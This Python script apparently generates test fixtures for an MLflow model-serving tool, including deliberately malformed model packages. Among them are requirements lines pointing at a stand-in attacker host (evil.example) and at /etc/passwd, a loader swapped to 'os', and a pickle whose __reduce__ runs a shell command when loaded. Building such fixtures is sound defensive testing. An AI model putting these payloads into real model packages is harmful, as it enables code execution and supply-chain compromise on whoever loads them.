"""Saves the models of this room with MLflow's own API into the folder that is
named, all at once: importing MLflow is what takes the time."""

import json
import os
import shutil
import sys

import mlflow

here, out, requirements = os.path.dirname(os.path.abspath(__file__)), sys.argv[1], sys.argv[2]
sys.path.insert(0, here)
with open(requirements) as f:
    packages = [line.strip() for line in f if line.strip() and not line.startswith("#")]


def save(name, code="puppet.py", **more):
    path = os.path.join(out, name)
    mlflow.pyfunc.save_model(path, python_model=os.path.join(here, code), code_paths=[os.path.join(here, "acts.py")],
                             pip_requirements=packages, **more)
    return path


def edit(path, *pairs):
    with open(path) as f:
        text = f.read()
    for old, new in pairs:
        assert old in text, (path, old, text)
        text = text.replace(old, new)
    with open(path, "w") as f:
        f.write(text)


def variant(name, file, *pairs):
    """A copy of the puppet with one file changed, as a bad packer would leave it."""
    path = os.path.join(out, name)
    shutil.copytree(os.path.join(out, "puppet"), path)
    if pairs:
        edit(os.path.join(path, file), *pairs)
    return os.path.join(path, file)


save("puppet")

# The same with one package more: another environment.
with open(variant("packages", "requirements.txt"), "a") as f:
    f.write("\ntabulate==0.9.0\n")

# Engines of somebody's own, beside a model as they must be.
for engine in ("brute", "liar"):
    variant(engine, "MLmodel")
    for file in (engine + ".py", "acts.py"):
        shutil.copy(os.path.join(here, file), os.path.join(out, engine))

# BAD-INPUTS 41, 51, 52, 53
variant("no-loader", "MLmodel", ("loader_module: mlflow.pyfunc.loaders.code_model", "loader_module: nobody.wrote.this"))
variant("os-loader", "MLmodel", ("loader_module: mlflow.pyfunc.loaders.code_model", "loader_module: os"))
for name, line in {"option-line": "--index-url http://evil.example/simple", "editable": "-e .", "git": "git+ssh://git@evil.example/x.git",
                   "file-line": "x @ file:///etc/passwd", "conflict": "numpy==1.0\nnumpy==2.0"}.items():
    with open(variant(name, "requirements.txt"), "w") as f:
        f.write("mlflow==3.17.2\n" + line + "\n")
for python in ("2.7", "3.99"):
    path = variant("python-" + python, "python_env.yaml")
    with open(path, "w") as f:
        f.write("python: %s\ndependencies:\n- -r requirements.txt\n" % python)
    with open(os.path.join(os.path.dirname(path), "MLmodel")) as f:
        lines = f.read().splitlines()
    with open(os.path.join(os.path.dirname(path), "MLmodel"), "w") as f:
        f.writelines(line.replace(line.strip(), "python_version: %s.1" % python) + "\n" if "python_version" in line else line + "\n" for line in lines)
path = variant("conda", "conda.yaml")
with open(path, "w") as f:
    f.write("channels: [conda-forge]\ndependencies:\n- python=3.11\n- cudatoolkit=11.8\n- pip:\n  - mlflow==3.17.2\n")
os.remove(os.path.join(os.path.dirname(path), "python_env.yaml"))
edit(os.path.join(os.path.dirname(path), "MLmodel"), ("    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n", "    env: conda.yaml\n"))


# BAD-INPUTS 47: a pickle that runs a command when it is loaded.
class Bomb:
    def __reduce__(self):
        return os.system, ("id > %s; echo the bomb went off >&2; touch own-file" % sys.argv[3],)


import cloudpickle  # noqa: E402


class Carrier(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input, params=None):
        return ["still here"] * len(model_input)


carrier = Carrier()
mlflow.pyfunc.save_model(os.path.join(out, "bomb"), python_model=carrier, pip_requirements=packages)
carrier.bomb = Bomb()
with open(os.path.join(out, "bomb", "python_model.pkl"), "wb") as f:
    cloudpickle.dump(carrier, f)


# BAD-INPUTS 54: what no JSON can hold.
class Odd(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input, params=None):
        import datetime
        import numpy as np
        what = model_input["what"][0]
        if what == "generator":
            return (i for i in range(3))
        if what == "object":
            return object()
        if what == "huge":
            return ["x" * (1 << 20)] * model_input["n"][0]
        return {"nan": [float("nan"), float("inf")], "bytes": [b"ab"], "datetime": [datetime.datetime(2026, 1, 2)],
                "array": np.array([1.5, np.nan]), "none": None}[what]


mlflow.pyfunc.save_model(os.path.join(out, "odd"), python_model=Odd(), pip_requirements=packages)
print(json.dumps(sorted(os.listdir(out))))
